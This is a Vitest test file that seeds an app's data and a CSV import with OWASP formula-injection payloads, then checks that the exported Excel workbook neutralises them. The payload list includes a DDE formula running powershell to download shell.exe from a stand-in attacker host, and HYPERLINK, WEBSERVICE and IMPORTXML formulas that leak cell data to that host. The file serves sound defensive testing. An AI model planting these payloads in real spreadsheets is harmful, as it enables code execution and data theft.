import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumRenderer } from '../../electron/pack/chromium';
import { commitImport } from '../../electron/import/run';
import { exportPack } from '../../electron/pack/export';
import { updateSettings } from '../../electron/store/settings';
import { tempWorkspace } from '../helpers/tempWorkspace';

/**
 * OWASP CSV/formula-injection payloads put into every text the user or an import controls (initiative
 * names, owners, units and descriptions, KPI names, commentary, vendors and spend descriptions, company
 * name, confidentiality line), then the Excel pack is exported for real and every cell of every sheet
 * is read back: no text cell that carries a payload starts with = + - @ tab CR LF, no formula carries
 * payload text, and the payloads did reach the workbook (the test is not vacuous).
 * (The pack has no CSV export; the PDF is not a spreadsheet.)
 */
export const OWASP_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C powershell IEX(wget attacker.invalid/shell.exe)'!A0",
  '=1+2',
  '+1+2',
  '-1+2',
  "-2+3+cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!'A1'",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@cmd|'/c calc'!A0",
  '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click for details")',
  '=WEBSERVICE("http://attacker.invalid/")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '=IMPORTXML(CONCAT("http://attacker.invalid/?v=", CONCATENATE(A2:E2)), "//a")',
  "\t=cmd|' /C calc'!A0",
  "\r=cmd|' /C calc'!A0",
  "\n=cmd|' /C calc'!A0",
] as const;

const DANGEROUS = /^[=+\-@\t\r\n]/;
const MARKERS = ['cmd|', 'attacker.invalid', 'DdeLink', '=1+2', '+1+2', '-1+2'];

let ws: ReturnType<typeof tempWorkspace>;
let outDir: string;
beforeAll(async () => {
  ws = tempWorkspace({ demo: true });
  outDir = path.join(ws.dir, 'pack');
  const db = ws.db;
  const p = (i: number) => OWASP_PAYLOADS[i % OWASP_PAYLOADS.length]!;
  const ids = db.prepare('SELECT id FROM initiatives ORDER BY id').pluck().all() as number[];
  const upd = db.prepare(
    'UPDATE initiatives SET name = ?, owner = ?, business_unit = ?, description = ? WHERE id = ?',
  );
  ids.forEach((id, i) => upd.run(`${p(i)} #${i}`, p(i + 1), p(i + 2), p(i + 3), id));
  const kpis = db.prepare('SELECT id FROM kpis ORDER BY sort_order').pluck().all() as string[];
  const kpiName = db.prepare('UPDATE kpis SET name = ? WHERE id = ?');
  kpis.forEach((id, i) => kpiName.run(`${p(i)} (${id})`, id));
  db.prepare('UPDATE commentary SET body = ? || body').run(p(0));
  const rows = db.prepare('SELECT period, scope, ref FROM commentary').all() as {
    period: string;
    scope: string;
    ref: string;
  }[];
  const body = db.prepare('UPDATE commentary SET body = ? WHERE period = ? AND scope = ? AND ref = ?');
  rows.forEach((r, i) => body.run(`${p(i)} ${r.ref}`, r.period, r.scope, r.ref));
  updateSettings(db, { companyName: p(0), confidentiality: p(10) });
  // Vendors, descriptions and new initiatives arrive the way they do in life: through an import.
  const quote = (v: string) => `"${v.replace(/"/g, '""')}"`;
  const lines = ['Date,Amount,Vendor,Category,Initiative,Description'];
  OWASP_PAYLOADS.forEach((payload, i) =>
    lines.push(
      [
        `2026-0${7 + (i % 3)}-1${i % 10}`,
        `${100 + i}.25`,
        quote(payload),
        'model_api',
        quote(`${payload} (new ${i})`),
        quote(p(i + 5)),
      ].join(','),
    ),
  );
  const csv = path.join(ws.dir, 'payloads.csv');
  fs.writeFileSync(csv, `${lines.join('\r\n')}\r\n`);
  const imported = await commitImport(db, { path: csv, name: 'payloads.csv' });
  expect(imported.rows).toBe(OWASP_PAYLOADS.length);
  // A file name is text the user controls too (the Sources sheet lists every batch's file).
  const hostile = `${OWASP_PAYLOADS[0]}.csv`;
  const again = await commitImport(db, { path: csv, name: hostile, allowDuplicate: true });
  expect(again.fileName).toBe(hostile);
});
afterAll(() => ws?.close());

function cellTexts(cell: ExcelJS.Cell): { text: string[]; formula: string | null } {
  const v = cell.value;
  if (v === null || v === undefined) return { text: [], formula: null };
  if (typeof v === 'string') return { text: [v], formula: null };
  if (typeof v === 'object' && !(v instanceof Date)) {
    if ('formula' in v || 'sharedFormula' in v) {
      const f = v as ExcelJS.CellFormulaValue;
      return { text: typeof f.result === 'string' ? [f.result] : [], formula: f.formula ?? null };
    }
    if ('richText' in v) return { text: [v.richText.map((r) => r.text).join('')], formula: null };
    if ('hyperlink' in v) return { text: [String(v.text), String(v.hyperlink)], formula: null };
  }
  return { text: [], formula: null };
}

describe('formula injection in the Excel pack', () => {
  it('every OWASP payload reaching the workbook is neutralised, in every sheet and cell', async () => {
    const result = await exportPack(
      ws,
      { period: 'FY2026-Q3', pdf: false, xlsx: true, allowUncommentedRed: true, outDir },
      chromiumRenderer(),
    );
    const file = result.files.find((f) => f.path.endsWith('.xlsx'))!.path;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const violations: string[] = [];
    let carrying = 0;
    const sheetsCarrying = new Set<string>();
    for (const sheet of wb.worksheets) {
      if (DANGEROUS.test(sheet.name)) violations.push(`sheet name "${sheet.name}"`);
      sheet.eachRow({ includeEmpty: false }, (row) =>
        row.eachCell({ includeEmpty: false }, (cell) => {
          const { text, formula } = cellTexts(cell);
          const where = `${sheet.name}!${cell.address}`;
          if (formula && MARKERS.some((m) => formula.includes(m)))
            violations.push(`${where} formula =${formula}`);
          for (const t of text) {
            if (!MARKERS.some((m) => t.includes(m))) continue;
            carrying++;
            sheetsCarrying.add(sheet.name);
            if (DANGEROUS.test(t)) violations.push(`${where} ${JSON.stringify(t.slice(0, 60))}`);
          }
          const note = cell.note;
          const noteText = typeof note === 'string' ? note : (note?.texts?.map((x) => x.text).join('') ?? '');
          if (noteText && DANGEROUS.test(noteText) && MARKERS.some((m) => noteText.includes(m)))
            violations.push(`${where} note`);
        }),
      );
    }
    console.log(
      `formula injection: ${OWASP_PAYLOADS.length} payloads, ${carrying} cells carry one over ${sheetsCarrying.size} sheets (${[...sheetsCarrying].join(', ')}), ${violations.length} not neutralised`,
    );
    expect(violations).toEqual([]);
    expect(carrying).toBeGreaterThanOrEqual(20);
    expect(sheetsCarrying.size).toBeGreaterThanOrEqual(2);
    fs.rmSync(outDir, { recursive: true, force: true });
  }, 120_000);
});
